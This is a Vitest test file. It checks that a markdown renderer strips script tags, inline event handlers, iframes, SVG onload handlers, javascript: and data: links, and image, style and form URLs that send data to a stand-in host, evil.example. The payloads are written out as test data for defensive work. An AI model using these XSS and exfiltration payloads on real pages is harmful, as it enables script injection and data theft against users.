import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './renderMarkdown.ts';

describe('renderMarkdown', () => {
  it.each([
    ['script', '<script>alert(1)</script>hello', 'script'],
    ['event handler', '<p onclick="alert(1)">hello</p>', 'onclick'],
    ['image', '![x](https://evil.example/?d=secret)', 'evil.example'],
    ['raw image', '<img src=x onerror=alert(1)>', 'img'],
    ['frame', '<iframe src="https://evil.example"></iframe>', 'iframe'],
    ['svg', '<svg onload=alert(1)></svg>', 'svg'],
    ['style', '<p style="background:url(https://evil.example)">x</p>', 'evil.example'],
    ['form', '<form action="https://evil.example"><input name=q></form>', 'evil.example'],
    ['javascript link', '[x](javascript:alert(1))', 'javascript:'],
    ['data link', '[x](data:text/html,hello)', 'data:'],
  ])('drops %s', (_, text, trace) => {
    expect(renderMarkdown(text)).not.toContain(trace);
  });

  it('keeps the structure of an answer', () => {
    const html = renderMarkdown('**Yes.** See [the guide](https://example.com/guide):\n\n- one\n- two\n\n`npm start`');
    expect(html).toContain('<strong>Yes.</strong>');
    expect(html).toContain('<li>one</li>');
    expect(html).toContain('<code>npm start</code>');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
  });
});
